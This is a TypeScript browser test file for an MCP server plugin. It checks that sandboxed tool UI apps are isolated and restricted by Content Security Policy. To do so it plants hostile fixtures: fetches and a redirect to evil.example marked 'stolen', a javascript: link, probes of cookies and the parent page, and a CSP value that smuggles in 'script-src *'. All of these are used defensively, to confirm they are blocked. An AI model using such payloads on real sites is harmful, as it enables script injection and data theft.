import { build } from 'esbuild'
import t, { type Test } from 'tap'
import type { FastifyInstance } from 'fastify'
import type { FrameLocator, Page } from 'playwright-core'
import mcpPlugin, { McpServer, Type } from '../../lib/index.ts'
import { createHost } from '../support/app.ts'
import { noBrowser } from '../support/browser.ts'
import { findViolations, startExplorer, withExplorer } from './browser.ts'

// A browser takes its time to start where others work, too.
t.setTimeout(300_000)

const APP_TYPE = 'text/html;profile=mcp-app'

// Written with the official library, like the apps that servers have.
const APP = `
import { App } from '@modelcontextprotocol/ext-apps'
const app = new App({ name: 'Clock app', version: '1.0.0' }, {})
const show = (id, value) => { document.getElementById(id).textContent = typeof value === 'string' ? value : JSON.stringify(value) }
const ask = async (id, question) => {
  try { show(id, await question()) } catch (error) { show(id, 'refused: ' + error.message) }
}
app.ontoolinput = ({ arguments: args }) => show('input', args)
app.ontoolresult = ({ structuredContent }) => show('result', structuredContent)
app.onhostcontextchanged = ({ theme }) => show('theme', theme)
document.getElementById('act').onclick = async () => {
  await ask('called', () => app.callServerTool({ name: 'tick', arguments: {} }))
  await ask('hidden', () => app.callServerTool({ name: 'model_only', arguments: {} }))
  await ask('message', () => app.sendMessage({ role: 'user', content: [{ type: 'text', text: 'What time is it?' }] }))
  await ask('context', () => app.updateModelContext({ structuredContent: { zone: 'UTC' } }))
  await ask('link', () => app.openLink({ url: 'https://time.example/' }))
  await ask('bad', () => app.openLink({ url: 'javascript:alert(1)' }))
  show('done', 'done')
}
await app.connect()
show('theme', app.getHostContext().theme)
const reach = async (id, access) => { try { show(id, String(await access())) } catch { show(id, 'denied') } }
show('origin', self.origin)
await reach('parent', () => parent.document.title)
await reach('storage', () => localStorage.length)
await reach('cookies', () => document.cookie)
await reach('network', async () => (await fetch('/explorer/mounts.json')).status)
await reach('evil', async () => (await fetch('https://evil.example/')).status)
show('ready', 'ready')
`

const IDS = [
  'input', 'result', 'theme', 'called', 'hidden', 'message', 'context', 'link', 'bad', 'done',
  'origin', 'parent', 'storage', 'cookies', 'network', 'evil', 'ready'
]

async function buildApp (): Promise<string> {
  const { outputFiles } = await build({
    stdin: { contents: APP, resolveDir: import.meta.dirname },
    bundle: true,
    write: false,
    format: 'esm',
    logLevel: 'silent'
  })
  // The end of a script within the script would end it.
  const script = (outputFiles[0]?.text ?? '').replaceAll('</script', '<\\/script')
  return `<!doctype html><meta charset="utf-8"><button id="act">Act</button>
${IDS.map((id) => `<p id="${id}"></p>`).join('\n')}<script type="module">${script}</script>`
}

interface AppHtml { readonly html: string, readonly mimeType?: string, readonly csp?: object }

function createClock (t: Test, { html, mimeType = APP_TYPE, csp }: AppHtml): FastifyInstance {
  const server = new McpServer({ name: 'Clock', version: '1.0.0' })
  server.registerTool('clock', {
    inputSchema: Type.Object({ zone: Type.String() }),
    outputSchema: Type.Object({ time: Type.String() }),
    _meta: { ui: { resourceUri: 'ui://clock/app.html' } }
  }, ({ zone }) => ({ time: `12:00 ${zone}` }))
  server.registerTool('tick', { _meta: { ui: { visibility: ['app'] } } }, () => 'tock')
  server.registerTool('model_only', { _meta: { ui: { visibility: ['model'] } } }, () => 'secret')
  server.registerResource('Clock app', 'ui://clock/app.html', {
    mimeType, ...(csp !== undefined && { _meta: { ui: { csp } } })
  }, () => html)
  const { app } = createHost(t, { forceCloseConnections: true })
  app.register(mcpPlugin, { prefix: '/clock', server })
  return withExplorer(app)
}

/** Asserts that axe finds nothing, on a phone and on a desk, light and dark. */
async function assertAccessible (t: Test, page: Page): Promise<void> {
  for (const width of [390, 1280]) {
    await page.setViewportSize({ width, height: 800 })
    for (const theme of ['light', 'dark']) {
      await page.locator('html').evaluate((html, name) => { Reflect.get(html, 'dataset').theme = name }, theme)
      t.same(await findViolations(page), [], `${width} ${theme}`)
    }
  }
}

async function callClock (page: Page): Promise<FrameLocator> {
  await page.getByLabel('zone').fill('UTC')
  await page.getByRole('button', { name: 'Call', exact: true }).click()
  return page.frameLocator('iframe')
}

/** Waits for the text of an element that the app fills. */
async function textOf (frame: FrameLocator, id: string): Promise<string> {
  await frame.locator(`#${id}:not(:empty)`).waitFor({ state: 'attached' })
  return await frame.locator(`#${id}`).innerText()
}

t.test('apps of tools in Chromium', { skip: noBrowser }, async (t) => {
  const explorer = await startExplorer(t)
  const html = await buildApp()

  for (const era of ['modern', 'legacy']) {
    t.test(`an app gets the call of a ${era} client, calls tools, and says what it wants`, async (t) => {
      const page = await explorer.open(t, createClock(t, { html }), `#/Clock/tool/clock?era=${era}`)
      const frame = await callClock(page)

      t.same(JSON.parse(await textOf(frame, 'input')), { zone: 'UTC' })
      t.same(JSON.parse(await textOf(frame, 'result')), { time: '12:00 UTC' })
      await frame.getByRole('button', { name: 'Act' }).click()
      await textOf(frame, 'done')

      t.match(await textOf(frame, 'called'), 'tock')
      t.match(await textOf(frame, 'hidden'), /refused: .*for the model alone/)
      const said = page.getByRole('log', { name: 'What the app says' })
      t.match(await said.innerText(), /message[^]*What time is it\?[^]*context[^]*"zone":"UTC"[^]*link[^]*https:\/\/time\.example\//)
      t.same(await said.getByRole('link').evaluateAll((links) => links.map((link) => link.getAttribute('href'))), ['https://time.example/'])
      t.match(await said.innerText(), 'javascript:alert(1)')
      if (era === 'modern') await assertAccessible(t, page)
    })
  }

  t.test('an app follows the theme, and reaches neither the page nor the app that serves it', async (t) => {
    const page = await explorer.open(t, createClock(t, { html }), '#/Clock/tool/clock')
    const frame = await callClock(page)
    await textOf(frame, 'ready')

    t.equal(await textOf(frame, 'theme'), 'light')
    await page.getByRole('button', { name: /dark/i }).click()
    await frame.locator('#theme', { hasText: 'dark' }).waitFor()
    t.equal(await textOf(frame, 'origin'), 'null')
    for (const id of ['parent', 'storage', 'cookies', 'network', 'evil']) t.equal(await textOf(frame, id), 'denied', id)
    // The policy refuses the two requests, and the browser says so.
    explorer.forgive(/Content Security Policy|Refused to connect|Fetch API cannot load/)
  })

  t.test('an app whose type is another is not run', async (t) => {
    const app = createClock(t, { html: '<script>parent.document.title = "owned"</script>', mimeType: 'text/html' })
    const page = await explorer.open(t, app, '#/Clock/tool/clock')
    await callClock(page)

    await page.getByText('The type of ui://clock/app.html is text/html').waitFor()

    t.equal(await page.locator('iframe').count(), 0)
    await assertAccessible(t, page)
  })

  t.test('the policy of an app has the origins that its resource names, and nothing else that stands there', async (t) => {
    const csp = { connectDomains: ['https://api.example.com', "'self'; script-src *"], resourceDomains: ['https://*.cdn.example'] }
    const app = createClock(t, { html: '<p id="here">here</p>', csp })
    const page = await explorer.open(t, app, '#/Clock/tool/clock')
    const loaded = page.waitForResponse((response) => response.url().includes('/app.html'))
    const frame = await callClock(page)
    await frame.getByText('here').waitFor()

    const policy = (await (await loaded).allHeaders())['content-security-policy']
    t.match(policy, 'connect-src https://api.example.com;')
    t.match(policy, "script-src 'unsafe-inline' 'unsafe-eval' blob: https://*.cdn.example;")
    t.notMatch(policy, 'script-src *')
  })

  t.test('an app runs code that it makes of a text, in workers as well, and this reaches no network either', async (t) => {
    const worker = "postMessage(new Function('return 6 * 7')())"
    const script = `const url = URL.createObjectURL(new Blob([${JSON.stringify(worker)}]))
      new Worker(url).onmessage = async ({ data }) => {
        const reached = await new Function("return fetch('/explorer/mounts.json').then(() => 'reached', () => 'denied')")()
        document.body.textContent = data + ' ' + reached
      }`
    const page = await explorer.open(t, createClock(t, { html: `<body><script>${script}</script>` }), '#/Clock/tool/clock')

    const frame = await callClock(page)

    await frame.getByText('42 denied').waitFor()
    explorer.forgive(/Content Security Policy|violates/)
  })

  t.test('an app cannot lead its frame elsewhere', async (t) => {
    const app = createClock(t, { html: '<p>here</p><script>location.href = "https://evil.example/?stolen"</script>' })
    const page = await explorer.open(t, app, '#/Clock/tool/clock')
    const requests: string[] = []
    page.on('request', (request) => { requests.push(request.url()) })
    const refused = page.waitForEvent('console', (message) => /frame-src/.test(message.text()))
    await callClock(page)
    await refused

    t.notOk(requests.some((url) => url.includes('evil.example') && !url.startsWith('chrome-error:')), String(requests))
    explorer.forgive(/frame-src|Content Security Policy/)
  })

  t.test('no page has complained', async (t) => {
    t.same(explorer.complaints, [])
  })
})
